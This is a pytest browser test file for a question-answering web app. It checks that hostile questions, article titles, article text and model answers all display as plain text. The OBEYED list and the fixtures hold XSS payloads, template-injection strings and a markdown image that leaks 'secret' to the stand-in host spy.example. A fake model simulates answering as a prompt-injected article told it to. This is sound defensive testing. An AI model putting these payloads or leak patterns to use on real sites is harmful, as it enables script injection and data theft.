"""Whatever stands in a question, a title, an article or a model's answer stays text on the page."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from eval.model_server import Messages, ModelServer, tokens
from index.types import Article
from qa.answerer import Answerer
from tests import naughty
from tests.browser_support import (
    FERRY,
    HOSTILE,
    Scripted,
    Visit,
    marked,
    served,
)
from tests.test_generate import number_of

if TYPE_CHECKING:
    from index.store import Index
    from index.types import Encoder

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

OBEYED = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![spy](http://spy.example/?q=secret)",
    "[click](javascript:alert(1))",
    "http://spy.example/secret",
    "${7*191} {{7*191}}",
    "<iframe src=http://spy.example></iframe>",
]
"""What a model writes that does as an attacker told it."""


@pytest.fixture(scope="module")
def hostile(encoder: Encoder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    from index.store import Index

    folder = tmp_path_factory.mktemp("safety") / "<b>${7*191}"
    with Index.open(folder, create=True, encoder=encoder) as index:
        index.add([HOSTILE, FERRY])
        yield index


def test_a_hostile_article_stays_text(visit: Visit, hostile: Index) -> None:
    with served(hostile) as address:
        visit.open(address)
        turn = visit.ask("With what words did the mayor of Zelgrad open the tannery bridge?")
        assert "<img src=x onerror=alert(1)> and ${7*191} and {{7*191}}" in turn.inner_text()
        turn.locator(".fn-number, .fn-nearest .fn-link").first.click()
        assert "<img src=x onerror=alert(1)> and ${7*191}" in marked(visit, HOSTILE)
        head = visit.panel.locator(".fn-article")
        assert "<b onclick=alert(1)>speaks</b>" in head.locator("h3").inner_text()
        assert "Evil & <i>Sons</i>, 4 March 2024" in visit.panel.inner_text()
        assert head.get_by_role("link").count() == 0
        visit.button("Ask only this article").click()
        assert "<b onclick=alert(1)>" in visit.page.locator(".fn-chips").inner_text()
        visit.button("Articles").click()
        visit.panel.get_by_text("Mayor <b onclick=alert(1)>speaks</b> of ${7*191}").wait_for()
        assert "${7*191}" in visit.page.locator("#footnote-header").inner_text()
        visit.check()


def obeying(messages: Messages) -> list[str]:
    n = number_of(messages, "mayor of Zelgrad")
    said = " ".join(
        f"The mayor of Zelgrad opened the bridge {text} on Monday [{n}]." for text in OBEYED
    )
    return tokens(said, 5)


def test_a_model_that_obeys_an_attacker_shows_nothing_but_text(
    visit: Visit, hostile: Index
) -> None:
    with (
        ModelServer(obeying) as server,
        served(hostile, Answerer(hostile, f"{server.url}#tiny")) as address,
    ):
        visit.open(address)
        turn = visit.ask("Who opened the tannery bridge of Zelgrad?")
        assert turn.locator(".fn-claim").count() >= len(OBEYED) - 1
        assert turn.locator(".fn-answer a").count() == 0
        assert "spy.example" not in turn.inner_text()
        visit.check()


def test_a_stream_of_anything_stays_text(visit: Visit, hostile: Index) -> None:
    """Were the program itself turned, its page would still write text only."""
    with served(hostile, Scripted()) as address:
        visit.open(address)
        evil = "<img src=x onerror=alert(1)>${7*191}"
        lines = [
            f'{{"event": "searched", "searched_for": "{evil}"}}',
            f'{{"event": "error", "message": "{evil}", "kind": "{evil}"}}',
        ]
        visit.page.route(
            "**/footnote/ask", lambda route: route.fulfill(status=200, body="\n".join(lines))
        )
        assert evil in visit.ask("Who?").get_by_role("alert").inner_text()
        visit.page.unroute("**/footnote/ask")
        visit.page.route(
            "**/footnote/ask", lambda route: route.fulfill(status=200, body="{not json\n")
        )
        assert "cannot read" in visit.ask("Who?").get_by_role("alert").inner_text()
        visit.check()


@pytest.mark.parametrize("question", naughty.OURS)
def test_a_hostile_question_stays_text(visit: Visit, seeds_address: str, question: str) -> None:
    visit.open(seeds_address)
    turn = visit.ask(question)
    shown = turn.locator(".fn-asked").text_content() or ""
    assert shown.split() == question.split()
    assert turn.locator(".fn-text, .fn-error").count() == 1
    visit.check()


def test_hostile_titles_stay_text_in_every_list(visit: Visit, index: Index) -> None:
    odd = Article("", "v", "", "The ferry to Zelgrad sailed at noon.\n", "Ledger")
    index.add(
        [
            replace(odd, id=f"o{n}", title=text[:200], source=text[:80])
            for n, text in enumerate(naughty.OURS)
        ]
    )
    with served(index) as address:
        visit.open(address)
        visit.ask("When did the ferry to Zelgrad sail?")
        visit.button("Narrow the search").click()
        visit.button("Articles").click()
        visit.panel.locator(".fn-articles li").nth(len(naughty.OURS) - 1).wait_for()
        assert visit.panel.locator(".fn-articles li").count() == len(naughty.OURS)
        visit.check()


@naughty.EVERY
@pytest.mark.slow
def test_every_naughty_string_is_asked(visit: Visit, hostile: Index, strings: list[str]) -> None:
    with served(hostile) as address:
        visit.open(address)
        for n, text in enumerate(strings):
            if n % 25 == 24:  # a page of a day's questions is not what is tested
                visit.open(address)
            if not visit.page.evaluate("text => text.trim()", text):
                continue  # what a page takes for nothing is not sent
            turn = visit.ask(text)
            assert turn.locator(".fn-text, .fn-error").count() == 1, text
            visit.check()


@naughty.EVERY
@pytest.mark.slow
def test_every_naughty_string_is_an_article(visit: Visit, index: Index, strings: list[str]) -> None:
    texts = [text for text in strings if text.strip()]
    index.add(
        Article(
            f"n{n}", "v", text[:200], f"The ferry to Zelgrad {text} sailed.\n\n{text}\n", text[:80]
        )
        for n, text in enumerate(texts)
    )
    with served(index) as address:
        visit.open(address)
        visit.button("Articles").click()
        pages = -(-len(index.articles()) // 50)
        for number in range(1, pages + 1):
            # Not the titles of the page before, which stand there until these have come.
            visit.panel.get_by_text(f"Page {number} of {pages}", exact=True).wait_for()
            titles = visit.panel.locator(".fn-source-title")
            for at in range(titles.count()):
                titles.nth(at).click()
                visit.panel.locator(".fn-article-text, .fn-hint[role=alert]").first.wait_for()
                visit.panel.get_by_role("button", name="Back").click()
                titles.first.wait_for()
            if number < pages:
                visit.button("Older ›").click()
        visit.ask("What of the ferry to Zelgrad?")
        visit.check()
